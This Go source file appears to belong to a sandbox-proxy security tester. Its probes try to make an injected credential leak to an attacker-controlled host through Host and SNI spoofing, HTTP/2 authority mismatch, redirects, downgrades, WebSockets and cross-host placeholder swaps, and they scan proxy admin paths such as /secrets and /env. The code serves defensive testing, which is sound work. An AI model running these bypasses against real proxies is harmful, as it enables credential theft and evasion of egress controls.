package tok

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/base64"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"time"

	"github.com/wallproof/wallproof/attest/manifest"
	"github.com/wallproof/wallproof/probes"
	"github.com/wallproof/wallproof/probes/canary"
	"github.com/wallproof/wallproof/probes/kit"
	"github.com/wallproof/wallproof/probes/paths"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// credential is the header field that carries the secret, as the sandbox sends
// it.
func credential(env *probes.Env) string {
	s := env.Facts.Injected
	return s.Header + ": " + s.Value
}

// bound is a request to the host that the secret is for, with the credential.
func bound(env *probes.Env, verb string, query url.Values) *kit.Request {
	s := env.Facts.Injected
	_, v6 := kit.WayOf(env.Variant)
	return &kit.Request{Scheme: s.Scheme, Host: s.Host, Port: s.Port, Addr: kit.AddrOf(s.Addr, v6),
		Path: paths.Build(s.Prefix, verb, env.Nonce, query), Header: []string{credential(env)}}
}

// attacker is a request to the attacker's host, with the credential.
func attacker(env *probes.Env, scheme string) *kit.Request {
	return &kit.Request{Scheme: scheme, Host: kit.OutsideName(env), Addr: kit.Outside(env),
		Path: paths.Build(env.Facts.Injected.Prefix, paths.Heartbeat, env.Nonce, nil), Header: []string{credential(env)}}
}

// web is kit.Web for techniques of which only a canary is proof.
func web(ctx context.Context, env *probes.Env, r *kit.Request) manifest.Observation {
	return kit.CanaryOnly(kit.Web(ctx, env, r))
}

// all makes every request and reports the least refused.
func all(ctx context.Context, env *probes.Env, list ...*kit.Request) manifest.Observation {
	o := web(ctx, env, list[0])
	for _, r := range list[1:] {
		o = kit.Worse(o, web(ctx, env, r))
	}
	return o
}

// ownKey sends a real key, of the attacker's, in the field in which the proxy puts the
// tenant's: around the swap, to an account of the attacker's at a host that is allowed.
// That very key, in what the host says that it received, is proof.
func ownKey(ctx context.Context, env *probes.Env) manifest.Observation {
	s := env.Facts.Injected
	key := canary.Derive([]byte("a key of the attacker's " + env.Nonce))
	value := strings.ReplaceAll(s.Value, s.Placeholder, key)
	if value == s.Value { // a placeholder that is encoded in it
		value = "Bearer " + key
	}
	r := bound(env, paths.Echo, url.Values{paths.QueryEncoding: {paths.EncodingRaw}})
	r.Header = []string{s.Header + ": " + value}
	return web(ctx, env, r)
}

func unbound(ctx context.Context, env *probes.Env) manifest.Observation {
	if way, _ := kit.WayOf(env.Variant); way == kit.Absolute {
		return web(ctx, env, attacker(env, "http"))
	}
	return all(ctx, env, attacker(env, "https"), attacker(env, "http"))
}

// crossTime is how long pairs are tried where nothing else bounds it.
const crossTime = 10 * time.Second

// cross sends each secret's placeholder to each host that it is not for but that is
// allowed: in the field, in the query and, where the policy allows a body, in the body,
// each alone, since one that is refused would hide another that is swapped. What a
// secret is bound to does not hang on the family: all but the first pair are tried in
// IPv4 alone.
func cross(ctx context.Context, env *probes.Env) manifest.Observation {
	_, v6 := kit.WayOf(env.Variant)
	enough := time.Now().Add(crossTime) // so that slowness is not taken for an answer that never comes
	if end, ok := ctx.Deadline(); ok {
		enough = time.Now().Add(time.Until(end) / 2)
	}
	var best manifest.Observation
	for i, c := range env.Facts.Crosses {
		if i > 0 && (v6 || time.Now().After(enough)) {
			break
		}
		for j, r := range crossing(env, c, v6) {
			o := web(ctx, env, r)
			if i+j > 0 {
				o = kit.Worse(best, o)
			}
			if best = o; len(best.Obtained) > 0 {
				return best
			}
		}
	}
	return best
}

// crossing are the requests to one allowed host with a placeholder that is not for it.
func crossing(env *probes.Env, c probes.Cross, v6 bool) []*kit.Request {
	ask := func(query url.Values) *kit.Request {
		return &kit.Request{Scheme: c.Scheme, Host: c.Host, Port: c.Port, Addr: kit.AddrOf(c.Addr, v6), Method: c.Method,
			Path: paths.Build(c.Prefix, paths.Sink, env.Nonce, query)}
	}
	field, query := ask(nil), ask(url.Values{"token": {c.Placeholder}})
	field.Header = []string{c.Header}
	list := []*kit.Request{field, query}
	if c.Write {
		post := ask(nil)
		post.Method, post.Body = http.MethodPost, []byte(`{"token":"`+c.Placeholder+`"}`)
		list = append(list, post)
	}
	return list
}

// hostSpoof is case B1: the address is the attacker's, the Host field is not.
func hostSpoof(ctx context.Context, env *probes.Env) manifest.Observation {
	r := attacker(env, "http")
	r.Hosts = []string{env.Facts.Injected.Host}
	return web(ctx, env, r)
}

func sniSpoof(ctx context.Context, env *probes.Env) manifest.Observation {
	r := attacker(env, "https")
	r.SNI = env.Facts.Injected.Host
	r.Hosts = []string{env.Facts.Injected.Host}
	return web(ctx, env, r)
}

// connectMismatch is case B3 in both directions.
func connectMismatch(ctx context.Context, env *probes.Env) manifest.Observation {
	out := attacker(env, "https")
	out.SNI, out.Hosts = env.Facts.Injected.Host, []string{env.Facts.Injected.Host}
	in := bound(env, paths.Heartbeat, nil)
	in.Scheme, in.SNI, in.Hosts = "https", kit.OutsideName(env), []string{kit.OutsideName(env)}
	return all(ctx, env, out, in)
}

func absoluteHost(ctx context.Context, env *probes.Env) manifest.Observation {
	r := attacker(env, "http")
	r.Hosts = []string{env.Facts.Injected.Host}
	return web(ctx, env, r)
}

func h2Authority(ctx context.Context, env *probes.Env) manifest.Observation {
	t := kit.Begin(env)
	defer t.End()
	way, v6 := kit.WayOf(env.Variant)
	r := attacker(env, "https")
	r.SNI = env.Facts.Injected.Host
	r.Over = &tls.Config{NextProtos: []string{http2.NextProtoTLS}}
	c, err := t.Stream(ctx, way, v6, r)
	if err != nil {
		return t.Fail(err)
	}
	a, err := kit.H2(ctx, c, nil,
		hpack.HeaderField{Name: ":method", Value: http.MethodGet},
		hpack.HeaderField{Name: ":scheme", Value: "https"},
		hpack.HeaderField{Name: ":authority", Value: env.Facts.Injected.Host},
		hpack.HeaderField{Name: ":path", Value: r.Path},
		hpack.HeaderField{Name: strings.ToLower(env.Facts.Injected.Header), Value: env.Facts.Injected.Value})
	if err != nil {
		return t.Fail(err)
	}
	return t.Done(kit.CanaryOnly(kit.Observe(a)))
}

// bracket is case B4.
func bracket(ctx context.Context, env *probes.Env) manifest.Observation {
	r := bound(env, paths.Heartbeat, nil)
	r.SNI = r.Host
	r.Host = "[" + r.Host + "]"
	r.Scheme, r.Hosts = "https", []string{kit.OutsideName(env)}
	return web(ctx, env, r)
}

// redirect is case B14: a client that keeps its credential over a redirect.
func redirect(ctx context.Context, env *probes.Env) manifest.Observation {
	evil := attacker(env, "http")
	to := "http://" + evil.Host + evil.Path
	return kit.CanaryOnly(kit.Follow(ctx, env, bound(env, paths.Redirect, url.Values{paths.QueryTo: {to}}), evil))
}

func downgrade(ctx context.Context, env *probes.Env) manifest.Observation {
	r := bound(env, paths.Heartbeat, nil)
	r.Scheme, r.Port = "http", 80
	return web(ctx, env, r)
}

// webSocket asks for an upgrade at the attacker's host, in TLS where the way has it, and
// in clear.
func webSocket(ctx context.Context, env *probes.Env) manifest.Observation {
	ask := func(scheme string) manifest.Observation {
		r := attacker(env, scheme)
		r.Path = paths.Build(env.Facts.Injected.Prefix, paths.Socket, env.Nonce, nil)
		return kit.CanaryOnly(kit.WebSocket(ctx, env, r))
	}
	if way, _ := kit.WayOf(env.Variant); way == kit.Absolute {
		return ask("http")
	}
	o := ask("https")
	if len(o.Obtained) > 0 {
		return o
	}
	return kit.Worse(o, ask("http"))
}

// adminPages asks the proxy for itself, in origin form.
// proxyPages are pages that proxies are known to have, and ways of getting at them.
var proxyPages = []string{"/", "/debug/pprof/", "/debug/vars", "/metrics", "/config", "/proxy.pac", "/v1/runs", "/api/flows", "/admin", "/admin/", "/dashboard", "/status", "/stats",
	"/health", "/healthz", "/debug", "/config_dump", "/api/v1/config", "/api/config", "/secrets", "/env", "/logs", "/ca.pem", "/wallproof", "/_status", "/internal", "/-/config"}

func adminPages(ctx context.Context, env *probes.Env) manifest.Observation {
	t := kit.Begin(env)
	defer t.End()
	_, v6 := kit.WayOf(env.Variant)
	best := manifest.Observation{Sign: manifest.SignAbsent}
	for i, path := range append(slices.Clone(proxyPages), env.Facts.ProxyPages...) {
		o := ownPage(ctx, t, v6, path+"?n="+env.Nonce)
		if i == 0 {
			best = o
		} else {
			best = kit.Worse(best, o)
		}
	}
	return t.Done(best)
}

func ownPage(ctx context.Context, t *kit.Try, v6 bool, path string) manifest.Observation {
	c, err := t.Proxy(ctx, v6)
	if err != nil {
		return kit.Sign(err)
	}
	r := &kit.Request{Path: path, Hosts: []string{kit.Of(t.Env.Facts.Proxy, v6)}}
	if _, err := c.Write(r.Bytes(kit.Direct, t.Env.Nonce)); err != nil {
		return kit.Sign(err)
	}
	a, err := kit.ReadAnswer(bufio.NewReader(c), r.Method)
	if err != nil {
		return kit.Sign(err)
	}
	return kit.Observe(a)
}

// basic is the Authorization field that git sends for a token.
func basic(token string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))
}
